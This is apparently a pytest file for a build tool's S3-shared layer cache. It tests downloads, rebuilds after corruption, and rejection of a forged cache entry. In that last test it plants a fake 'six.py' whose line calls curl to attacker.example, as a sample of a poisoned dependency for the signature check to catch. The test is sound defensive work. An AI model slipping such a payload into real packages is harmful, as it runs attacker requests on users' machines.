"""The layer cache shared across machines through S3 (the emulator's): one bucket, two cache folders.

A first runner builds a function's layer and uploads it; a second runner, with an empty
cache of its own and a checkout elsewhere, downloads it and runs no installer; a corrupt
object is ignored, rebuilt and replaced; an entry and its record both rewritten by someone who
may write the bucket (but does not hold ``GENESYS_CACHE_KEY``) are rejected, rebuilt and reported.
``GENESYS_CACHE_URL`` and ``GENESYS_CACHE_KEY`` reach the build through the doit tasks, as in CI.
"""

from __future__ import annotations

import shutil
import subprocess
import time

import pytest

from genesys_tasks import cli

TOML = """\
[metadata]
name = "shared"
runtime = "python3.12"
handler = "app.handler"

[build]
installer = "uv"
"""
URL = "s3://layer-cache/team-a/"
SECRET = "k" * 64


@pytest.fixture
def checkout(tmp_path):
    """A one-function repo, copied to a new folder per runner: ``checkout(name)`` → its TOML."""
    source = tmp_path / "origin"
    source.mkdir()
    (source / ".git").mkdir()
    (source / "lambda_shared.toml").write_text(TOML)
    (source / "requirements.txt").write_text("six==1.16.0\n")
    (source / "app.py").write_text("import six\n\ndef handler(event, context):\n    return six.PY3\n")

    def make(name: str):
        shutil.copytree(source, tmp_path / name)
        return tmp_path / name / "lambda_shared.toml"

    return make


@pytest.fixture
def runner(tmp_path, monkeypatch, capsys, boto):
    """``runner(toml, cache_name, **env)`` runs ``genesys lambda build`` with its own layer cache and the
    shared one; returns (exit code, stderr, the tool commands it started)."""
    boto("s3").create_bucket(Bucket="layer-cache")
    real_run, real_popen = subprocess.run, subprocess.Popen

    def run(toml, cache_name: str, **env):
        started = []

        def spy_run(cmd, *args, **kwargs):
            started.append(" ".join(map(str, cmd)))
            return real_run(cmd, *args, **kwargs)

        class SpyPopen(real_popen):
            def __init__(self, cmd, *args, **kwargs):
                started.append(" ".join(map(str, cmd)))
                super().__init__(cmd, *args, **kwargs)

        with monkeypatch.context() as scoped:
            scoped.setenv("GENESYS_CACHE_DIR", str(tmp_path / cache_name))
            scoped.setenv("GENESYS_CACHE_URL", URL)
            scoped.setenv("GENESYS_CACHE_KEY", SECRET)
            for name, value in env.items():
                scoped.setenv(name, value)
            scoped.setattr(subprocess, "run", spy_run)
            scoped.setattr(subprocess, "Popen", SpyPopen)
            code = cli.main(["lambda", "build", str(toml)])
        return code, capsys.readouterr().err, started

    return run


def layer_objects(boto) -> dict[str, bytes]:
    s3 = boto("s3")
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket="layer-cache").get("Contents", [])]
    return {key: s3.get_object(Bucket="layer-cache", Key=key)["Body"].read() for key in keys}


def layer_zip(toml):
    return toml.parent / ".genesys" / "build" / "shared" / "layer-x86_64.zip"


# an installer the second runner ran would find no index and no wheel folders (the spy sees it anyway)
NO_PIP = {"PIP_CONFIG_FILE": "/dev/null", "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": "", "UV_OFFLINE": "1",
          "UV_NO_INDEX": "1"}


def test_a_second_runner_downloads_the_layer_the_first_built_and_a_corrupt_one_is_rebuilt(checkout, runner,
                                                                                         boto):
    first = checkout("runner-1")
    started = time.monotonic()
    code, err, commands = runner(first, "cache-1")
    built_in = time.monotonic() - started
    assert code == 0, err
    assert "layer shared x86_64: built" in err
    assert any("pip install" in c for c in commands)
    objects = layer_objects(boto)
    assert sorted(k.rsplit(".", 1)[1] for k in objects) == ["json", "zip"]
    assert all(k.startswith("team-a/layers/") for k in objects)

    second = checkout("runner-2")
    started = time.monotonic()
    code, err, commands = runner(second, "cache-2", **NO_PIP)
    fetched_in = time.monotonic() - started

    assert code == 0, err
    assert "layer shared x86_64: from shared cache" in err
    assert not [c for c in commands if "pip" in c or "npm" in c], commands
    assert layer_zip(second).read_bytes() == layer_zip(first).read_bytes()
    print(f"\nshared layer cache: built and uploaded in {built_in:.2f}s; downloaded on a second runner "
          f"in {fetched_in:.2f}s")

    (zip_key,) = [k for k in objects if k.endswith(".zip")]
    good = objects[zip_key]
    boto("s3").put_object(Bucket="layer-cache", Key=zip_key, Body=good[: len(good) // 3])  # a cut-off upload
    code, err, commands = runner(checkout("runner-3"), "cache-3")

    assert code == 0, err
    assert "does not match its record" in err and "layer shared x86_64: built" in err
    assert any("pip install" in c for c in commands)
    assert layer_objects(boto)[zip_key] == good, "the good layer replaced the cut-off one"


def test_an_entry_and_its_record_rewritten_by_a_bucket_writer_are_rejected_rebuilt_and_reported(checkout, runner,
                                                                                              boto, tmp_path):
    import hashlib
    import json
    import zipfile

    code, err, _ = runner(checkout("runner-1"), "cache-1")
    assert code == 0, err
    objects = layer_objects(boto)
    (zip_key,) = [k for k in objects if k.endswith(".zip")]
    record_key = zip_key[:-4] + ".json"
    good_zip, good_record = objects[zip_key], objects[record_key]

    evil = tmp_path / "evil.zip"  # what the writer wants every function to ship
    with zipfile.ZipFile(evil, "w") as archive:
        archive.writestr("python/six.py", "import os\nos.system('curl https://attacker.example')\n")
    forged = dict(json.loads(good_record), size=evil.stat().st_size,
                  sha256=hashlib.sha256(evil.read_bytes()).hexdigest())
    s3 = boto("s3")
    s3.put_object(Bucket="layer-cache", Key=zip_key, Body=evil.read_bytes())
    s3.put_object(Bucket="layer-cache", Key=record_key, Body=json.dumps(forged).encode())

    second = checkout("runner-2")
    code, err, commands = runner(second, "cache-2")
    assert code == 0, err
    assert err.count("is not signed with GENESYS_CACHE_KEY") == 1 and "rejected, building it again" in err
    assert "layer shared x86_64: built" in err and any("pip install" in c for c in commands)
    with zipfile.ZipFile(layer_zip(second)) as archive:
        assert not any(b"attacker" in archive.read(n) for n in archive.namelist())
    assert layer_objects(boto)[zip_key] == good_zip, "the good layer replaced the forged one"
    assert json.loads(layer_objects(boto)[record_key])["signature"] == json.loads(good_record)["signature"]

    code, err, commands = runner(checkout("runner-3"), "cache-3", GENESYS_CACHE_KEY="")
    assert code == 0, err
    assert err.count("GENESYS_CACHE_KEY is not set") == 1 and "layer shared x86_64: built" in err
    assert layer_objects(boto)[zip_key] == good_zip, "nothing written without the key"


def test_the_s3_store_reads_nothing_from_a_missing_bucket_and_cannot_write_to_it(aws, tmp_path):
    from genesys_tasks.aws.cache_store import S3Store
    from genesys_tasks.errors import GenesysError

    store = S3Store("no-such-bucket-zz", "x/")
    assert store.get("layers/k.json", tmp_path / "k.json") is False
    (tmp_path / "k.zip").write_bytes(b"zip")
    with pytest.raises(GenesysError, match="no-such-bucket-zz"):
        store.put("layers/k.zip", tmp_path / "k.zip")
